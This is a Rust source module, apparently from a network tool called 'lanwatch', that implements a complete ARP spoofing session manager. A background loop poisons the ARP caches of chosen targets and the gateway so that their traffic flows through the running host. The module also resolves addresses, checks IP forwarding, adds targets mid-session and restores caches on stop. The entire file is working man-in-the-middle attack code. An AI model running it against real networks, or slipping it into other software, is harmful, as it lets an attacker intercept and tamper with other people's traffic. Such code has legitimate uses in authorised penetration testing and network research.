//! ARP redirection session
//!
//! [`ArpSpoofer`] moves through `Idle -> Spoofing -> Restoring -> Idle`.
//! While spoofing, a background task tells every target that the gateway
//! lives at our hardware address and tells the gateway the same about
//! every target. Stopping sends truthful replies for every binding that
//! was poisoned.
//!
//! Every frame goes out under one wire lock, and the poison loop checks
//! the `poisoning` flag under that lock before each frame. Once `stop`
//! has cleared the flag and taken the lock, no poison frame can follow.
//! Dropping a spoofer that was never stopped restores synchronously.

use crate::forwarding::{ip_forwarding_state, ForwardingState};
use chrono::{DateTime, Utc};
use lanwatch_core::{AddressResolver, Error, MacAddr, PacketSender, Result};
use lanwatch_packet::arp::{restore_reply, spoof_reply};
use parking_lot::Mutex;
use std::collections::HashSet;
use std::fmt;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::{watch, Mutex as AsyncMutex};
use tokio::task::JoinHandle;
use tokio::time::{interval, MissedTickBehavior};
use tracing::{debug, error, info, warn};
use uuid::Uuid;

/// Timing of a session
#[derive(Debug, Clone, Copy)]
pub struct SpoofConfig {
    /// Delay between poison rounds
    pub interval: Duration,
    /// Corrective rounds sent on stop
    pub restore_rounds: u32,
    /// Delay between corrective rounds
    pub restore_spacing: Duration,
    /// How long `stop` waits for the poison task before aborting it
    pub stop_grace: Duration,
}

impl Default for SpoofConfig {
    fn default() -> Self {
        Self {
            interval: Duration::from_secs(2),
            restore_rounds: 5,
            restore_spacing: Duration::from_millis(200),
            stop_grace: Duration::from_secs(3),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpoofState {
    Idle,
    Spoofing,
    Restoring,
}

impl fmt::Display for SpoofState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            SpoofState::Idle => "idle",
            SpoofState::Spoofing => "spoofing",
            SpoofState::Restoring => "restoring",
        })
    }
}

/// A resolved IP/hardware address binding
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Host {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
}

impl fmt::Display for Host {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.ip, self.mac)
    }
}

#[derive(Debug, Clone)]
struct Session {
    id: Uuid,
    gateway: Host,
    targets: Vec<Host>,
    started_at: DateTime<Utc>,
    forwarding: ForwardingState,
}

/// Point-in-time view of the spoofer
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SpoofStatus {
    pub state: SpoofState,
    pub session: Option<Uuid>,
    pub gateway: Option<Host>,
    pub targets: Vec<Host>,
    pub started_at: Option<DateTime<Utc>>,
    pub forwarding: ForwardingState,
    pub rounds: u64,
    pub packets_sent: u64,
    pub send_errors: u64,
}

/// State shared with the poison task
struct Shared {
    our_mac: MacAddr,
    sender: Arc<dyn PacketSender>,
    state: Mutex<SpoofState>,
    session: Mutex<Option<Session>>,
    poisoning: AtomicBool,
    wire: Mutex<()>,
    rounds: AtomicU64,
    packets_sent: AtomicU64,
    send_errors: AtomicU64,
}

impl Shared {
    fn send(&self, frame: &[u8]) -> Result<()> {
        match self.sender.send(frame) {
            Ok(()) => {
                self.packets_sent.fetch_add(1, Ordering::Relaxed);
                Ok(())
            }
            Err(e) => {
                self.send_errors.fetch_add(1, Ordering::Relaxed);
                Err(e)
            }
        }
    }

    /// One poison round over the current target list
    fn poison_round(&self) {
        let Some((gateway, targets)) = self
            .session
            .lock()
            .as_ref()
            .map(|s| (s.gateway, s.targets.clone()))
        else {
            return;
        };

        let _wire = self.wire.lock();
        for target in &targets {
            let frames = [
                spoof_reply(self.our_mac, gateway.ip, target.mac, target.ip),
                spoof_reply(self.our_mac, target.ip, gateway.mac, gateway.ip),
            ];
            for frame in &frames {
                if !self.poisoning.load(Ordering::SeqCst) {
                    return;
                }
                if let Err(e) = self.send(frame) {
                    warn!(host = %target, error = %e, "Failed to send poison reply");
                }
            }
        }
        let round = self.rounds.fetch_add(1, Ordering::Relaxed) + 1;
        debug!(round, targets = targets.len(), "Poison round sent");
    }

    /// One corrective round; returns the bindings that failed to send
    fn restore_round(&self, session: &Session) -> Vec<(Host, Host)> {
        let gateway = session.gateway;
        let mut failed = Vec::new();
        let _wire = self.wire.lock();
        for target in &session.targets {
            // tell the target where the gateway really is, and vice versa
            for (owner, victim) in [(gateway, *target), (*target, gateway)] {
                let frame = restore_reply(owner.mac, owner.ip, victim.mac, victim.ip);
                if let Err(e) = self.send(&frame) {
                    debug!(owner = %owner, victim = %victim, error = %e, "Restore reply failed");
                    failed.push((owner, victim));
                }
            }
        }
        failed
    }

    /// Restore `session`, pausing with `pause` between rounds.
    ///
    /// Fails when some binding could not be sent in any round.
    fn restore_with(&self, session: &Session, rounds: u32, mut pause: impl FnMut()) -> Result<()> {
        let mut pending: HashSet<(Host, Host)> = session
            .targets
            .iter()
            .flat_map(|t| [(session.gateway, *t), (*t, session.gateway)])
            .collect();

        let rounds = rounds.max(1);
        for round in 0..rounds {
            let failed: HashSet<_> = self.restore_round(session).into_iter().collect();
            pending.retain(|binding| failed.contains(binding));
            if round + 1 < rounds {
                pause();
            }
        }

        if pending.is_empty() {
            info!(
                session = %session.id,
                targets = session.targets.len(),
                rounds,
                "ARP caches restored"
            );
            Ok(())
        } else {
            let victims: Vec<String> = pending.iter().map(|(_, v)| v.to_string()).collect();
            error!(
                session = %session.id,
                victims = ?victims,
                "Could not restore ARP caches; hosts stay misdirected until their caches expire"
            );
            Err(Error::Restore(format!(
                "{} binding(s) never restored: {}",
                pending.len(),
                victims.join(", ")
            )))
        }
    }
}

struct Running {
    shutdown: watch::Sender<bool>,
    task: JoinHandle<()>,
}

/// ARP spoofing session manager with guaranteed restore
pub struct ArpSpoofer {
    shared: Arc<Shared>,
    resolver: Arc<dyn AddressResolver>,
    config: SpoofConfig,
    control: AsyncMutex<Option<Running>>,
}

impl ArpSpoofer {
    pub fn new(
        our_mac: MacAddr,
        sender: Arc<dyn PacketSender>,
        resolver: Arc<dyn AddressResolver>,
    ) -> Self {
        Self {
            shared: Arc::new(Shared {
                our_mac,
                sender,
                state: Mutex::new(SpoofState::Idle),
                session: Mutex::new(None),
                poisoning: AtomicBool::new(false),
                wire: Mutex::new(()),
                rounds: AtomicU64::new(0),
                packets_sent: AtomicU64::new(0),
                send_errors: AtomicU64::new(0),
            }),
            resolver,
            config: SpoofConfig::default(),
            control: AsyncMutex::new(None),
        }
    }

    pub fn with_config(mut self, config: SpoofConfig) -> Self {
        self.config = config;
        self
    }

    pub fn state(&self) -> SpoofState {
        *self.shared.state.lock()
    }

    pub fn status(&self) -> SpoofStatus {
        let session = self.shared.session.lock().clone();
        SpoofStatus {
            state: self.state(),
            session: session.as_ref().map(|s| s.id),
            gateway: session.as_ref().map(|s| s.gateway),
            targets: session.as_ref().map(|s| s.targets.clone()).unwrap_or_default(),
            started_at: session.as_ref().map(|s| s.started_at),
            forwarding: session
                .as_ref()
                .map_or(ForwardingState::Unknown, |s| s.forwarding),
            rounds: self.shared.rounds.load(Ordering::Relaxed),
            packets_sent: self.shared.packets_sent.load(Ordering::Relaxed),
            send_errors: self.shared.send_errors.load(Ordering::Relaxed),
        }
    }

    /// Resolve each address, dropping the ones that do not answer
    async fn resolve_targets(&self, targets: &[Ipv4Addr], skip: &[Ipv4Addr]) -> Vec<Host> {
        let mut hosts: Vec<Host> = Vec::new();
        for ip in targets {
            if skip.contains(ip) || hosts.iter().any(|h| h.ip == *ip) {
                continue;
            }
            match self.resolver.resolve(*ip).await {
                Ok(mac) if mac == self.shared.our_mac => {
                    warn!(ip = %ip, "Target resolves to this host, skipping");
                }
                Ok(mac) => hosts.push(Host { ip: *ip, mac }),
                Err(e) => warn!(ip = %ip, error = %e, "Could not resolve target, excluding it"),
            }
        }
        hosts
    }

    /// Start spoofing `targets` against `gateway`.
    ///
    /// A target that cannot be resolved is left out with a warning. An
    /// unresolvable gateway, or no resolvable target at all, is an error.
    /// Calling this while a session runs adds the new targets to it.
    pub async fn start(&self, targets: &[Ipv4Addr], gateway: Ipv4Addr) -> Result<SpoofStatus> {
        let mut control = self.control.lock().await;

        if self.state() == SpoofState::Spoofing {
            return self.extend(targets, gateway).await;
        }

        let gateway = Host {
            ip: gateway,
            mac: self.resolver.resolve(gateway).await?,
        };
        let hosts = self.resolve_targets(targets, &[gateway.ip]).await;
        if hosts.is_empty() {
            return Err(Error::config(format!(
                "none of the {} target(s) could be resolved",
                targets.len()
            )));
        }

        let forwarding = ip_forwarding_state();
        if forwarding == ForwardingState::Disabled {
            warn!("IP forwarding is disabled; redirected targets will lose connectivity");
        }

        let session = Session {
            id: Uuid::now_v7(),
            gateway,
            targets: hosts,
            started_at: Utc::now(),
            forwarding,
        };
        info!(
            session = %session.id,
            gateway = %gateway,
            targets = session.targets.len(),
            "Starting ARP spoofing"
        );

        *self.shared.session.lock() = Some(session);
        self.shared.poisoning.store(true, Ordering::SeqCst);
        *self.shared.state.lock() = SpoofState::Spoofing;

        let (shutdown, mut shutdown_rx) = watch::channel(false);
        let shared = self.shared.clone();
        let period = self.config.interval;
        let task = tokio::spawn(async move {
            let mut ticker = interval(period);
            ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                tokio::select! {
                    _ = ticker.tick() => shared.poison_round(),
                    _ = shutdown_rx.changed() => break,
                }
            }
        });
        *control = Some(Running { shutdown, task });

        Ok(self.status())
    }

    /// Add targets to the running session
    async fn extend(&self, targets: &[Ipv4Addr], gateway: Ipv4Addr) -> Result<SpoofStatus> {
        let (current_gateway, known) = match self.shared.session.lock().as_ref() {
            Some(s) => (s.gateway, s.targets.iter().map(|t| t.ip).collect::<Vec<_>>()),
            None => return Err(Error::config("spoofing without a session")),
        };
        if current_gateway.ip != gateway {
            return Err(Error::config(format!(
                "a session against gateway {} is already running",
                current_gateway.ip
            )));
        }

        let mut skip = known;
        skip.push(gateway);
        let added = self.resolve_targets(targets, &skip).await;
        if !added.is_empty() {
            info!(added = added.len(), "Adding targets to running session");
            if let Some(session) = self.shared.session.lock().as_mut() {
                session.targets.extend(added);
            }
        }
        Ok(self.status())
    }

    /// Stop poisoning and restore every binding.
    ///
    /// Always ends `Idle`. A restore that could not reach some host is
    /// logged at error level and returned as [`Error::Restore`].
    pub async fn stop(&self) -> Result<()> {
        let mut control = self.control.lock().await;
        if self.state() == SpoofState::Idle {
            return Ok(());
        }

        *self.shared.state.lock() = SpoofState::Restoring;
        self.shared.poisoning.store(false, Ordering::SeqCst);

        if let Some(mut running) = control.take() {
            let _ = running.shutdown.send(true);
            if tokio::time::timeout(self.config.stop_grace, &mut running.task)
                .await
                .is_err()
            {
                warn!("Poison task did not stop in time, aborting it");
                running.task.abort();
            }
        }

        let session = self.shared.session.lock().take();
        let result = match session {
            Some(session) => {
                info!(session = %session.id, "Restoring ARP caches");
                self.restore(&session).await
            }
            None => Ok(()),
        };

        *self.shared.state.lock() = SpoofState::Idle;
        result
    }

    async fn restore(&self, session: &Session) -> Result<()> {
        let shared = self.shared.clone();
        let session = session.clone();
        let SpoofConfig {
            restore_rounds,
            restore_spacing,
            ..
        } = self.config;

        // the pauses block, so keep them off the async workers
        tokio::task::spawn_blocking(move || {
            shared.restore_with(&session, restore_rounds, || std::thread::sleep(restore_spacing))
        })
        .await
        .map_err(|e| Error::Restore(format!("restore task failed: {}", e)))?
    }
}

impl Drop for ArpSpoofer {
    fn drop(&mut self) {
        if *self.shared.state.lock() == SpoofState::Idle {
            return;
        }

        warn!("ARP spoofer dropped while active, restoring caches");
        self.shared.poisoning.store(false, Ordering::SeqCst);
        if let Some(running) = self.control.get_mut().take() {
            let _ = running.shutdown.send(true);
            running.task.abort();
        }

        if let Some(session) = self.shared.session.lock().take() {
            let spacing = self.config.restore_spacing;
            let _ = self.shared.restore_with(&session, self.config.restore_rounds, || {
                std::thread::sleep(spacing)
            });
        }
        *self.shared.state.lock() = SpoofState::Idle;
    }
}
